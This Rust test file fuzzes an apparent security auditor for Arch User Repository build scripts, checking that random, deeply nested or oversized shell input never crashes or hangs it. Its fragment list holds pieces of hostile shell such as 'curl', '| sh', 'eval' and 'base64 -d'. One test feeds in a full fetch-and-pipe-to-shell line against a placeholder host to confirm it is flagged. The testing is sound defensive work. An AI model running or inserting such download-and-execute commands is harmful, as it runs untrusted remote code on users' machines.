//! Random and hostile input never panics (and never hangs: the walk has a work budget).

use archgate_aur::audit::{AuditInput, ScriptFile, audit, audit_change};
use proptest::prelude::*;

const PIECES: &[&str] = &[
    "curl ",
    "| sh",
    "$(",
    ")",
    "${",
    "}",
    "'",
    "\"",
    "$'\\x62'",
    "<<EOF\n",
    "EOF\n",
    "\n",
    "eval ",
    "source <(",
    "a=",
    "((",
    "))",
    "{",
    "}",
    ";",
    "&",
    "|",
    "`",
    "\\",
    "for i in a b; do ",
    "done",
    "f() {",
    "case $x in",
    "esac",
    "${a//x/y}",
    "${a:-$(b)}",
    "[[ -f x ]]",
    "#",
    "package() {",
    "install=.x.install\n",
    "source=(",
    ")",
    "$IFS",
    "base64 -d",
    "printf -v x '%s' ",
    "${!a}",
    "${a[@]}",
    "arr+=(",
    "$((1+))",
    "<<<",
    "2>&1",
    "cat > f <<'E'\nExec=sh -c 'x'\nE\n",
];

fn shellish() -> impl Strategy<Value = String> {
    prop::collection::vec(prop::sample::select(PIECES), 0..60).prop_map(|v| v.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]

    #[test]
    fn arbitrary_text_never_panics(s in any::<String>(), t in any::<String>(), si in proptest::option::of(any::<String>())) {
        let inp = AuditInput {
            pkgbuild: s.clone(),
            install_scripts: vec![ScriptFile { name: "x.install".into(), content: t.clone() }, ScriptFile { name: "y.hook".into(), content: s }],
            srcinfo: si,
        };
        let r = audit(&inp);
        prop_assert!(r.findings.iter().all(|f| f.line >= 1 && f.column >= 1));
    }

    #[test]
    fn shell_shaped_garbage_never_panics(a in shellish(), b in shellish()) {
        let before = AuditInput { pkgbuild: a.clone(), ..AuditInput::default() };
        let after = AuditInput {
            pkgbuild: b.clone(),
            install_scripts: vec![ScriptFile { name: ".z.install".into(), content: a }],
            srcinfo: Some(b),
        };
        let _ = audit_change(&before, &after);
    }
}

#[test]
fn deep_nesting_and_huge_input_stay_bounded() {
    let deep = "$(".repeat(3000) + &")".repeat(3000);
    let _ = audit(&AuditInput::new(format!("x={deep}\n")));
    let evals = "eval \"".repeat(200) + "true" + &"\"".repeat(200);
    let _ = audit(&AuditInput::new(evals));
    let loops = "for a in 1 2 3 4 5 6 7 8; do ".repeat(12) + "echo $a" + &"; done".repeat(12);
    let _ = audit(&AuditInput::new(loops));
    let big = "echo hello world\n".repeat(100_000);
    let r = audit(&AuditInput::new(big));
    assert!(r.findings.iter().any(|f| f.id == "AUR-AUDIT-TRUNCATED"));
}

/// tree-sitter-bash's scanner hands the code point after `{` to C's `isdigit`, which indexes its
/// table out of bounds for anything past a byte: `echo {` then U+10FFF0 crashed the whole process
/// with SIGSEGV (found by `arbitrary_text_never_panics` in CI, one run in six). Each of these is
/// a crash of this test binary if the parser ever sees such a code point again.
#[test]
fn a_brace_before_any_code_point_past_ascii_never_crashes_the_parser() {
    for c in [
        '\u{80}',
        '\u{ff}',
        '\u{100}',
        '\u{ffff}',
        '\u{10000}',
        '\u{10fff0}',
        '\u{10ffff}',
    ] {
        for shape in [
            "echo {C",
            "echo {C.1}",
            "x={C..2}",
            "f() {C; }",
            "${C}",
            "{C",
        ] {
            let text = shape.replace('C', &c.to_string());
            let _ = audit(&AuditInput::new(text.clone()));
            let _ = audit(&AuditInput::new(format!("{text}\n").repeat(50)));
        }
    }
}

/// What the parser reads is masked to ASCII byte for byte, but findings quote the PKGBUILD as
/// written, and the line and column of what follows a wide character are still right.
#[test]
fn findings_quote_the_text_as_written_around_characters_past_ascii() {
    let r = audit(&AuditInput::new(
        "# 🚀 démarrage\nbuild() {\n  curl -s https://exámple.invalid/ǝ.sh | sh\n}\n",
    ));
    let f = r
        .findings
        .iter()
        .find(|f| f.snippet.contains("| sh"))
        .unwrap_or_else(|| panic!("no pipe-to-shell finding: {:#?}", r.findings));
    assert!(f.snippet.contains("exámple.invalid/ǝ.sh"), "{f:#?}");
    assert_eq!(f.line, 3, "{f:#?}");
}
